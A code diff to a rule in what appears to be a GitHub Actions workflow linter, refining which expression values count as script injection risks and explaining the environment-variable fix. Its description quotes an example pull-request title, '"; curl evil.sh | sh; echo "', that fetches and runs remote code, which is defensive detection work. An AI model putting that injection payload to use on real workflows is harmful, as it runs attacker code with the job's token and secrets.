@@ -75,7 +75,11 @@ export default {
     'GitHub substitutes `${{ … }}` into the script text before the shell starts, so quotes do not protect it: a pull request titled ' +
     '`"; curl evil.sh | sh; echo "` becomes code that runs with the job\'s token and secrets. Values that only reach the script through ' +
     '`env:`, a step output, a job output, a string input or a dynamic matrix are reported with lower confidence; booleans, numbers, ' +
-    'SHAs, secrets and static values are not reported. Lines that are shell comments are not executed and are skipped.',
+    'SHAs, ids, secrets and static values are not reported, nor are values whose characters GitHub restricts so that no shell ' +
+    'metacharacter fits: user, organization and app logins (letters, digits, hyphens), repository names and `owner/name` (letters, ' +
+    'digits, `.`, `-`, `_`), `author_association`. Branch names are not restricted (`github.head_ref` can be `$(…)`) and stay critical. ' +
+    'Text only writers choose (a pushed ref or tag, a release, a `workflow_dispatch` input) is reported at low or medium severity. ' +
+    'Lines that are shell comments are not executed and are skipped.',
   fix:
     'Pass the value through an environment variable and reference it quoted: add `env: TITLE: ${{ github.event.pull_request.title }}` ' +
     'to the step and write `"$TITLE"` in the script (`$env:TITLE` in PowerShell, `process.env.TITLE` in github-script).',
